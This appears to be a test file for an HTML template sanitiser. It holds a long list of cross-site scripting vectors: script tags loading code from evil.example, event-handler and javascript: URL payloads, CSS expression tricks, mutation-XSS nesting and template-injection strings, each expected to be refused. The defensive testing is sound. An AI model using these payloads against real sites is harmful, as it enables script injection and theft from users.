import { DomainError } from '@parley/errors';
import sanitizeHtml from 'sanitize-html';
import { sanitizeTemplate } from './sanitize-template';
import { allowed } from './template-policy';

const refusalOf = (template: string): string => {
  try {
    sanitizeTemplate(template);
    return 'taken';
  } catch (error) {
    return error instanceof DomainError ? error.reason : String(error);
  }
};

/** Vectors after the OWASP filter evasion list, the HTML5 security list, and published mutation and template attacks. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/src=//evil.example/x.js></script>',
  '<script\n>alert(1)</script>',
  '<<script>alert(1);//\\<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '</p></div><script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="https://a.example/a.png" ONLOAD="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="javascript:alert(1)"',
  '<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:alert(1)">',
  '<IMG SRC="jav&#x09;ascript:alert(1)">',
  '<IMG SRC="jav&#x0A;ascript:alert(1)">',
  '<IMG SRC="jav&#x0D;ascript:alert(1)">',
  '<IMG SRC=" &#14;  javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<img srcset="a.png 1x, javascript:alert(1) 2x">',
  "<IMG SRC='vbscript:msgbox(1)'>",
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript&colon;alert(1)>x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript\u200B:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a foo=a src="javascript:alert(1)">x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<b/onclick=alert(1)>x</b>',
  '<div onpointerenter="alert(1)">x</div>',
  '<p onanimationstart=alert(1) style="animation:x">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<button onfocus=alert(1) autofocus>x</button>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=f><button form=f>x</button></form>',
  '<input type="image" src="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x',
  '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src=https://evil.example/ <',
  '<FRAMESET><FRAME SRC="javascript:alert(1)"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x.class"></applet>',
  '<BGSOUND SRC="javascript:alert(1)">',
  '<LAYER SRC="https://evil.example/x.html"></LAYER>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background-image:\\0075\\0072\\006C\\0028javascript:alert(1)\\0029">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<div style="xss:expr/*x*/ession(alert(1))">x</div>',
  '<div style="behavior: url(xss.htc);">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="background:url(https://evil.example/track.png)">x</div>',
  '<div style="x:\\65\\78pression(alert(1))">x</div>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<![<!--]]<script>alert(1)//-->',
  '<?xml version="1.0"?><p>x</p>',
  '<? echo("<script>"); ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="https://a.example" {{attributes}}>x</a>',
  '<a href="java{{x}}script:alert(1)">x</a>',
  '<a href="{{x}}javascript:alert(1)">x</a>',
  '<a href="{{scheme}}:alert(1)">x</a>',
  '<div style="color: {{colour}}">x</div>',
  '<p>{{{html}}}</p>',
  '<p>{{& html}}</p>',
  '<p>{{constructor.constructor}}</p>',
  "<p>{{constructor.constructor('alert(1)')()}}</p>",
  "<p>{{$on.constructor('alert(1)')()}}</p>",
  '<p>{{__proto__.x}}</p>',
  '<p>{{#with "s" as |string|}}{{string.sub.apply 0 codelist}}{{/with}}{{{x}}}</p>',
  "<p>{{'a'['constructor']}}</p>",
  '<p>{{x</p><p>y}}</p>',
  '<p v-on:click="alert(1)">x</p>',
  '<p @click="alert(1)">x</p>',
  '<p :href="x">x</p>',
];

describe('a template with the vector', () => {
  it.each(vectors)('%j is refused', (vector) => {
    expect(refusalOf(vector)).toBe('UNSAFE_TEMPLATE');
    expect(refusalOf(`<div class="card"><h3>{{title}}</h3>${vector}`)).toBe('UNSAFE_TEMPLATE');
  });
});

describe('what the sanitiser alone makes of the vectors', () => {
  // The second line: should a vector ever pass the first, what would be shown is still harmless.
  it.each(vectors)('%j has nothing that runs', (vector) => {
    const shown = sanitizeHtml(vector, allowed);
    expect(shown).not.toMatch(/<(script|style|iframe|svg|math|form|object|embed|link|meta|base|template)\b/i);
    const bare = shown.replace(/"[^"]*"/g, '""');
    expect(bare).not.toMatch(/<[^>]*\s(on\w+|srcdoc|formaction|action|background)\s*=/i);
    expect(shown).not.toMatch(
      /<[^>]*(href|src)\s*=\s*["']?[\s\p{C}]*(javascript|vbscript|data|blob|feed):/iu,
    );
    expect(shown).not.toMatch(/<[^>]*style="[^"]*(url\(|expression|binding|behavior)/i);
  });
});

describe('a harmless template', () => {
  it.each([
    '<h3>{{title}}</h3>',
    'plain text with {{ first.name }} and {{items.0.price}}',
    '<ul>{{#each items}}<li class="item {{this.state}}">{{@index}}: {{this.label}}</li>{{/each}}</ul>',
    '{{#if open}}<p>open</p>{{else}}<p>closed</p>{{/if}}{{^open}}<p>x</p>{{/open}}',
    '<p>{{ price | currency }} – {{ formatDate date "short" }}</p>',
    '<a href="{{url}}">{{label}}</a>',
    '<a href="https://shop.example/orders/{{id}}?from={{ref}}#top">x</a>',
    '<a href="/orders/{{id}}">x</a>',
    '<a href="mailto:{{email}}">x</a><a href="tel:{{phone}}">y</a>',
    '<table class="t"><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">{{a}}</td></tr></tbody></table>',
    '<span role="img" aria-label="{{label}}" title="javascript: the good parts">x</span>',
    '<p>1 &lt; 2 &amp;&amp; onclick=alert(1) is text</p>',
    '<details open><summary>{{question}}</summary><p>{{answer}}</p></details>',
    '<progress value="{{done}}" max="100"></progress>',
    '<p>日本語 العربية 🎉</p>',
  ])('%j stays as it is', (template) => {
    const shown = sanitizeTemplate(template);
    expect(shown.replace(/ open=""/g, ' open')).toBe(template);
  });

  it.each([
    ['<img src="{{image}}" alt="{{title}}">', '<img src="{{image}}" alt="{{title}}" />'],
    ['<p><!-- a note -->x</p>', '<p>x</p>'],
    ['<order-card id="a" data-x="1" tabindex="0"><p id="b">x</p></order-card>', '<p>x</p>'],
    ['<p>unclosed', '<p>unclosed</p>'],
    ['1 < 2', '1 &lt; 2'],
    ['<button>{{label}}</button>', '<button type="button">{{label}}</button>'],
    ['<button type="submit">x</button>', '<button type="button">x</button>'],
    [
      '<a href="{{url}}" target="_top">x</a>',
      '<a href="{{url}}" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    [
      '<div style="color: #333; padding: 4px 8px; position: fixed; z-index: 9999">x</div>',
      '<div style="color:#333;padding:4px 8px">x</div>',
    ],
  ])('%j is shown as %j', (template, shown) => {
    expect(sanitizeTemplate(template)).toBe(shown);
    expect(sanitizeTemplate(shown)).toBe(shown);
  });

  it('of 20,000 characters, nested deeply, takes no longer than others', () => {
    expect(sanitizeTemplate('<div>'.repeat(1_800)).length).toBe(1_800 * 11);
    expect(refusalOf('{{'.repeat(10_000))).toBe('UNSAFE_TEMPLATE');
    expect(refusalOf('<'.repeat(20_000))).toBe('taken');
  });
});
